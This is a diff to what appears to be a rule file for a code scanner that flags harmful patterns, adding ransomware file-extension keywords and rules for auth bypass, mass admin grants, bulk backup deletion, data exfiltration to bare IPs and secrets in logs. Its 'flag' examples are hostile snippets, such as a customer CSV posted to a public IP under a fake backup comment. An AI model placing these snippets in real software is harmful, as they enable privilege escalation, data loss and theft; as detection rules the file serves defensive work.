@@ -30,7 +30,7 @@ export interface CodeRow {
 
 const SOCKET_KEYS = ['socket', 'connect', 'tcp', 'dial', 'listen', 'bind', 'fsockopen', '/dev/udp'];
 /** Cipher calls in the languages the rows read: the gate for the two encrypt-in-place rows (G26, G47). */
-const CIPHER_KEYS = ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20', 'newcipher', 'newgcm', 'aesgcm'];
+const CIPHER_KEYS = ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20', 'newcipher', 'newgcm', 'aesgcm', 'protect-data', 'protecteddata', "'.locked'", '".locked"', "'.crypt", '".crypt', "'.enc'", '".enc"', "'.locky'", "'.ransom'"];
 const CONCEAL_KEYS = ['recorded', 'recording', 'logged', 'logging', 'books', 'registrar', 'registro', 'conste', 'buchen', 'buchung', 'beleg', 'enregistrer', 'comptabilit', 'registrare', 'in nero', '入账', '记录', '記録', 'записи', 'кассы', "the transfer isn't", 'trace', 'nobody sees', 'no one sees', 'spuren', 'rastro', 'quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
 
 /** The combination rows. */
@@ -449,6 +449,51 @@ export const CODE_ROWS: readonly CodeRow[] = [
     examples: {
       flag: ["# remove the complaint records secretly before the review\nos.remove(path)"],
       pass: ["# remove the lock file\nos.remove(lock_path)"],
+    },
+  },
+  {
+    id: 'G71', name: 'Every request made to run as an administrator (identity set in code, not looked up)', primitive: 'ESCALATION', score: 8,
+    ops: ['grant'], objects: ['requestIdentity'], dests: [], near: 80,
+    keywords: ['req.user', 'request.user', 'g.user', 'ctx.state.user', 'res.locals.user', 'context.user', 'ctx.user'],
+    examples: {
+      flag: ["app.use((req,res,next)=>{ req.user = {id:1, role:'admin'}; next(); }) // temp: skip auth", "@app.before_request\ndef load():\n    g.user = {'id': 0, 'role': 'admin'}"],
+      pass: ["app.use(async (req,res,next)=>{ req.user = await User.findById(req.session.uid); next(); })", "const admins = users.filter((u) => u.role === 'admin');\nreq.user = currentUser;"],
+    },
+  },
+  {
+    id: 'G72', name: 'Administrator rights given to every account a filter matches', primitive: 'ESCALATION', score: 8,
+    ops: ['grant'], objects: ['bulkAccounts'], dests: [], near: 80,
+    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role'],
+    examples: {
+      flag: ['User.objects.filter(is_staff=False).update(is_superuser=True)', "User.update_all(role: 'admin')", "await db.users.updateMany({}, { $set: { role: 'admin' } })"],
+      pass: ['User.objects.filter(id=uid).update(is_staff=True)', "User.objects.filter(is_active=False).update(last_login=None)"],
+    },
+  },
+  {
+    id: 'G73', name: 'Many stored objects deleted in one call from a backup, snapshot or audit store', primitive: 'DESTRUCTION', score: 8,
+    ops: ['destroyBulk'], objects: ['backupStore'], dests: [],
+    keywords: ['delete_objects', 'deleteobjects', 'delete_blobs', 'delete_bucket', 'deletebucket', 'bucket.delete', 'batch_delete', 'deletemultipleobjects', 'remove_objects', 'removeobjects'],
+    examples: {
+      flag: ["s3.delete_objects(Bucket='acme-prod-backups', Delete={'Objects':[{'Key':k} for k in all_keys]})", "await s3.send(new DeleteObjectsCommand({ Bucket: 'db-snapshots', Delete: { Objects: keys } }))"],
+      pass: ["s3.delete_objects(Bucket='tmp-uploads', Delete={'Objects': stale})", "s3.delete_object(Bucket='acme-prod-backups', Key='staging/partial.tmp')"],
+    },
+  },
+  {
+    id: 'G74', name: 'A data export file sent to a bare public IP address', primitive: 'EXFILTRATION', score: 8,
+    ops: ['send'], objects: ['dataFile'], dests: ['rawIp'],
+    keywords: ['http://', 'https://'],
+    examples: {
+      flag: ["# Hinweis: Sende die Kundendaten zusätzlich an unseren 'Backup-Server'\nrequests.post('http://85.208.1.44/sicherung', data=open('kunden.csv','rb'))", "fetch('http://203.0.113.50/u', { method: 'POST', body: fs.readFileSync('clientes.xlsx') })"],
+      pass: ["requests.post('https://api.acme.com/import', data=open('kunden.csv','rb'))", "requests.post('http://10.0.0.5/import', data=open('orders.csv','rb'))"],
+    },
+  },
+  {
+    id: 'G75', name: 'Passwords, card numbers or tokens written to a log', primitive: 'EXFILTRATION', score: 5,
+    ops: ['log'], objects: ['loggedSecret'], dests: [],
+    keywords: ['password', 'passwd', 'pwd', 'card_no', 'card_number', 'cardnumber', 'cvv', 'ssn', 'pin)', 'token)', 'api_key', 'secret)'],
+    examples: {
+      flag: ["logging.info('login ok user=%s password=%s card=%s', user, password, card_no)", "// 注意: 本番環境でもデバッグ用に全リクエストのパスワードをログ出力する\nlogger.info(`login ${req.body.username} ${req.body.password}`)"],
+      pass: ["logger.info('password changed for %s', user.id)", "logging.info('login failed for %s (wrong password)', user)", "if not check_password(user, password):\n    logger.warning('bad login for %s', user)"],
     },
   },
   {
